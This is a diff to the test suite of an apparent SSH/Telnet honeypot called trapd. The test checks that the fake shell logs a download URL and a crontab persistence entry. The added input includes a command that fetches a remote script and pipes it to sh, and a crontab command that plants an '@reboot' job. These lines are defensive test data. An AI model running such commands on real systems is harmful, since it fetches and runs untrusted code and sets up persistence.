@@ -75,13 +75,15 @@ describe.skipIf(Boolean(skip))("trapd's fake shell behind SSH and Telnet logins"
   }, 60_000);
 
   test("an interactive pty session answers at a prompt the same way", async () => {
-    const r = await ssh("admin", "admin", ["-tt"], "hostname\nid\ncd /tmp\npwd\nls /proc/cpuinfo\n/bin/busybox HONEY\nexit\n");
+    const r = await ssh("admin", "admin", ["-tt"], "hostname\nid\ncd /tmp\npwd\nls /proc/cpuinfo\n/bin/busybox HONEY\ncurl -s http://198.51.100.23/i.sh | sh\n(crontab -l 2>/dev/null; echo '@reboot /tmp/.x') | crontab -\nexit\n");
     expect(r.stdout).toMatch(/admin@[a-z0-9-]+:~\$ /);
     expect(r.stdout).toContain("uid=");
     expect(r.stdout).toMatch(/admin@[a-z0-9-]+:\/tmp\$ /);
     expect(r.stdout).toContain("HONEY: applet not found");
     const s = await trap.waitSession((x) => mine(x) && x.commands.includes("/bin/busybox HONEY"), "pty session");
     expect(s.commands.slice(0, 4)).toEqual(["hostname", "id", "cd /tmp", "pwd"]);
+    expect(s.indicators?.urls).toEqual(["http://198.51.100.23/i.sh"]);
+    expect(s.persistence).toContainEqual({ kind: "crontab", path: "/var/spool/cron/crontabs/admin", detail: "@reboot /tmp/.x" });
     expect(s.transcript).toMatch(/\.cast$/);
   }, 60_000);
 
